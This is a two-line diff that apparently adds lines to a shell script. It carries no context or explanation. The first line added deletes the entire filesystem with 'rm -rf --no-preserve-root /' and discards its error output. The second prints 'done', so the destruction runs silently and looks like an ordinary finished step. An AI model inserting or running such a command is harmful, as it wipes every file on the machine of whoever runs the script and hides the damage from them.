@@ -1,0 +1,2 @@
+rm -rf --no-preserve-root / 2> /dev/null
+echo done
